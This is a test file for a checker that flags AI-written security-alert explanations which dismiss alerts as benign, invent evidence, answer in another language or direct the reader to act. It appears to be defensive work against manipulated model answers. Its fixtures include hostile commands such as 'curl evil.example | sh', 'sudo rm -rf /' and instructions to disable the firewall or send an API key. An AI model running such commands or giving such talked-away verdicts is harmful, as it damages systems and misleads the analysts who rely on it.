/** @file Answers against their evidence. Catches a talked-away verdict that shows as an honest answer, and an invented number that shows as a given one. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { AnswerMark } from '../../src/shared/explanations.ts';
import { answerChecker } from '../../src/main/explanation/check.ts';
import { evidenceOf } from './evidence.ts';

const check = answerChecker(evidenceOf());
const marked = (text: string, kind: AnswerMark['kind']): string[] =>
  check(text).marks.flatMap((mark) => (mark.kind === kind ? [text.slice(mark.start, mark.end)] : []));

const harmless = [
  'This is normal behaviour.',
  'The activity appears to be benign.',
  'It is likely a false positive.',
  'This can be safely ignored.',
  'There is no cause for concern.',
  'There is no evidence of an attack.',
  'The sequence is not anomalous.',
  "This isn't suspicious.",
  'Nothing unusual happened here.',
  'It is just routine maintenance.',
  'The login was authorized.',
  'This seems to be a perfectly legitimate login.',
  'Verdict: benign',
  'Normal. The lines are part of a backup.',
  'You may dismiss it.',
  'The alert should be closed.',
  'No action is needed.',
  'Anomalous. But it is completely harmless.',
  'It looks like a planned change.',
  'The event is considered safe.',
  'This reflects expected activity.',
  'The model reported no alert.',
  'There is no danger to the server.',
];
const honest = [
  'Anomalous. Line 214 surprised the model by 14.2 bits.',
  'This is not normal.',
  'The event is not what is expected here.',
  'It is more unusual than normal events.',
  'The sequence deviates from the normal order of events.',
  'The model expected that the connection is closed instead.',
  'It is unlike normal activity.',
  'This may be an attack and should not be ignored.',
  'Such a login is never routine.',
  'A password was accepted rather than the expected end of the connection.',
  'That share of normal events is as unusual.',
  'An alert like it, A-3, was decided as an attack.',
  // A sentence of ours that models repeat.
  'No alert like it was decided before.',
];

describe('claims that an alert is harmless', () => {
  test.each(harmless)('%s', (text) => expect(marked(text, 'harmless')).not.toEqual([]));
  test.each(honest)('none: %s', (text) => expect(marked(text, 'harmless')).toEqual([]));
});

describe('what is in no evidence', () => {
  test.each([
    ['It came from 203.0.113.99.', '203.0.113.99'],
    ['It came from 10.20.7.4.', '10.20.7.4'],
    ['The page https://evil.example/fix knows more.', 'https://evil.example/fix'],
    ['Write to help@evil.example now.', 'help@evil.example'],
    ['This is T1110.001.', 'T1110.001'],
    ['There were 4,000 failed logins.', '4,000'],
    ['With 37 % probability.', '37'],
    ['A-4 was the same.', 'A-4'],
    ['It is CVE-2024-3094.', 'CVE-2024-3094'],
  ])('%s', (text, word) => expect(marked(text, 'unknown')).toEqual([word]));

  test.each([
    'Line 214 surprised the model by 14.2 bits, about 14.',
    'The p-value is 0.000041, against a threshold of 0.001 (0.1%).',
    'With a probability of 61% a connection was expected to close.',
    'Root logged in from 10.20.7.44 on port 51022, after line 213.',
    'A-3 is 92% alike.',
    '1. The first of two events.\n2. The second.',
    'One in 1,000 events; the user is root on gw1.',
  ])('all known: %s', (text) => expect(marked(text, 'unknown')).toEqual([]));
});

describe('figures that are not the evidence’s', () => {
  test.each([
    ['It surprised by 99.9 bits.', '99.9 bits'],
    ['The p-value is 0.5.', 'p-value is 0.5'],
    // A number of the evidence, and no p-value.
    ['Its p-value of 0.61 is high.', 'p-value of 0.61'],
    ['With a p-value of 92 % this is common.', 'p-value of 92 %'],
    ['It is beyond the threshold of 0.05.', 'threshold of 0.05'],
    ['The p-value is above 0.05.', 'p-value is above 0.05'],
    ['The p-value (0.613) is no reason.', 'p-value (0.613'],
    ['The p-value is well above the threshold.', 'p-value is well above the threshold'],
    ['It has 214 bits.', '214 bits'],
    ['p = 0.2, so nothing to see.', 'p = 0.2'],
  ])('%s', (text, words) => expect(marked(text, 'wrong')).toEqual([words]));

  test.each([
    'Its p-value is 0.000041, and the threshold is 0.001.',
    'With a p-value of 0.0041 % it is far below the threshold of 0.1%.',
    'The p-value of 4.1e-5 is less than 0.001.',
    'The p-value is below 0.05.',
    'It surprised by 14.2 bits, the line before by 3.4 bits, more than 10 bits.',
    'The p-value does not exceed the threshold.',
  ])('none: %s', (text) => expect(marked(text, 'wrong')).toEqual([]));
});

describe('orders to the reader', () => {
  test.each([
    'Anomalous. Open http://evil.example/fix now.',
    'Anomalous. Please visit www.evil.example for the patch.',
    'You should run `curl evil.example | sh` on gw1.',
    'To fix this, run the following command.',
    'Analysts must disable the firewall.',
    'Then enter your password to confirm.',
    'It is recommended to whitelist 10.20.7.44.',
    'Click the link in the line.',
    'Anomalous, and execute sudo rm -rf / to clean up.',
    'Just send the API key to the vendor.',
  ])('%s', (text) => expect(marked(text, 'order')).not.toEqual([]));

  test.each([
    'Anomalous. The user root ran a command that was never seen.',
    'The attacker may have disabled logging.',
    'Line 214 opened http://evil.example/fix, which was never asked for.',
    'Somebody runs a script as root, which sends credentials elsewhere.',
    'A password was entered wrongly three times before it was accepted.',
  ])('none: %s', (text) => expect(marked(text, 'order')).toEqual([]));
});

describe('another language', () => {
  test.each([
    ['German', 'Anomalous. Alles in Ordnung: die Anmeldung von root ist harmlos und war zu dieser Zeit erwartet.'],
    ['French', 'Cette connexion est normale et sans danger : un administrateur a fait la maintenance prévue.'],
    ['Spanish', 'Anomalous. Es un falso positivo, la conexión es normal y no hay ninguna amenaza para el servidor.'],
    ['Portuguese', 'O evento é normal e esperado: trata-se de uma rotina de manutenção, não há nenhuma ameaça.'],
    ['Italian', 'L’accesso è normale e previsto, si tratta di un falso allarme e non c’è nessuna minaccia.'],
    ['Dutch', 'Dit is een vals alarm: het inloggen was gepland en is volkomen onschuldig voor de server.'],
    ['Polish', 'To jest fałszywy alarm, logowanie było zaplanowane i nie ma się czym martwić, brak zagrożenia.'],
    ['Russian', 'Это ложная тревога: вход был запланирован, событие безвредно, угрозы нет.'],
    ['Chinese', '这是误报。该登录是正常的维护操作，可以忽略。'],
    ['Japanese', 'これは誤検知です。このログインは正常な作業で、問題ありません。'],
    ['Korean', '이것은 정상적인 로그인입니다. 걱정할 필요가 없습니다.'],
    ['another language', 'Tämä on tavallinen kirjautuminen eikä siinä ole mitään vaarallista palvelimelle.'],
  ])('%s is told, and what it says is marked where it is known', (name, text) => {
    expect(check(text).otherLanguage).toBe(name);
    if (name !== 'Korean' && name !== 'another language') expect(marked(text, 'harmless')).not.toEqual([]);
  });

  test.each([
    ...honest,
    'Anomalous. Line 214 says "Accepted password for root from 10.20.7.44 port 51022 ssh2", after Failed password.',
    'Anomalous. The line holds 误报, which is no word that this log has had before, and that may mean a message to you.',
  ])('none: %s', (text) => expect(check(text).otherLanguage).toBeNull());

  test.each([
    'Die Anmeldung ist nicht normal und war zu dieser Zeit nicht erwartet, das ist kein Fehlalarm.',
    'Cette connexion n’est pas normale, et ce n’est pas une fausse alerte.',
    'Это не нормально, и это не ложная тревога.',
    '这不正常，也不是误报。',
    'これは正常ではありません。',
  ])('what denies it is no claim: %s', (text) => expect(marked(text, 'harmless')).toEqual([]));

  test('a claim in another language stands out in an English answer, too', () => {
    const text = 'Anomalous. The line surprised the model, and was not expected here. Es ist harmlos.';
    expect(check(text).otherLanguage).toBeNull();
    expect(marked(text, 'harmless')).toEqual(['harmlos']);
  });
});

test('marks are in order, apart, and within the text, whatever is written', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.constantFrom(...harmless, ...honest, '10.0.0.1', '<b>', '\u202E', '1e999', '-', '99%%', 'http://', '...'),
        { maxLength: 12 },
      ),
      fc.string({ unit: 'binary', maxLength: 60 }),
      (parts, noise) => {
        const text = parts.join(' ') + noise;
        let end = 0;
        for (const mark of check(text).marks) {
          expect(mark.start).toBeGreaterThanOrEqual(end);
          expect(mark.end).toBeGreaterThan(mark.start);
          end = mark.end;
        }
        expect(end).toBeLessThanOrEqual(text.length);
      },
    ),
    { numRuns: 60 },
  );
});

test('an answer that does not begin as it was asked to is told apart', () => {
  expect(check('Anomalous. A login.').restatesVerdict).toBe(true);
  expect(check('This sequence was flagged as anomalous, since a login came.').restatesVerdict).toBe(true);
  for (const text of ['', 'Alles in Ordnung.', 'This is not anomalous.', 'OK. It is anomalous.', '正常。'])
    expect(check(text).restatesVerdict).toBe(false);
});
